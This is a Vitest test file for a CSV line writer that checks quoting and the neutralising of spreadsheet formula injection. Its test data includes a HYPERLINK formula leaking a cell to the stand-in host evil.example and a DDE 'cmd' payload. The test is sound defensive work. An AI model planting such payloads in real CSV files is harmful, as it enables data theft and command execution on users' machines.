import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { toCsvLine } from "./csv-write";

// toCsvLine writes every CSV of the app but the chart exports: the ZIP export, the import and
// REDCap error reports, the templates and the REDCap example project.
describe("CSV lines", () => {
  it("quotes what needs quoting and joins code lists with ;", () => {
    expect(toCsvLine(["a", 'b "c"', null, ["X", "Y"], 3])).toBe('a,"b ""c""",,"X;Y",3\r\n');
  });

  it("neutralises cells a spreadsheet would run as formulas and keeps negative numbers (issue 15 §8)", () => {
    const line = toCsvLine(['=HYPERLINK("http://evil.example/?x="&B2,"Open")', "@SUM(A1)", "\t=1", "-2+3+cmd|' /C calc'!A0", -1.5, "-7", "HER2-01-0042"]);
    expect(Papa.parse<string[]>(line.trimEnd()).data[0]).toEqual([
      `'=HYPERLINK("http://evil.example/?x="&B2,"Open")`,
      "'@SUM(A1)",
      "'\t=1",
      "'-2+3+cmd|' /C calc'!A0",
      "-1.5",
      "-7",
      "HER2-01-0042",
    ]);
  });
});
